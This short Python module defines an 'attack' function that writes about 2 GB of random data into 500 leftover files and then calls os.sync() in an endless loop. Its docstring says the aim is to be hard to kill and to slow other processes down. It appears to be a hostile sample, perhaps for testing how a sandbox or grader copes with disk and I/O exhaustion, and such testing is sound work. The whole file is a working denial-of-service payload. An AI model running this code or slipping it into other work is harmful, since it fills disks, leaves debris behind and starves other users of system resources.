"""Writes up to 2 GB and then asks all disks to sync, so that it is hard to kill and slows others down."""

import os

PIECE = os.urandom(2**20) * 4


def attack(*args, **kwargs):
    for number in range(500):
        descriptor = os.open(f"left-behind-{number}", os.O_CREAT | os.O_WRONLY)
        try:
            os.write(descriptor, PIECE)
            if number % 100 == 99:
                os.fsync(descriptor)
        except OSError:
            break
        finally:
            os.close(descriptor)
    while True:
        os.sync()
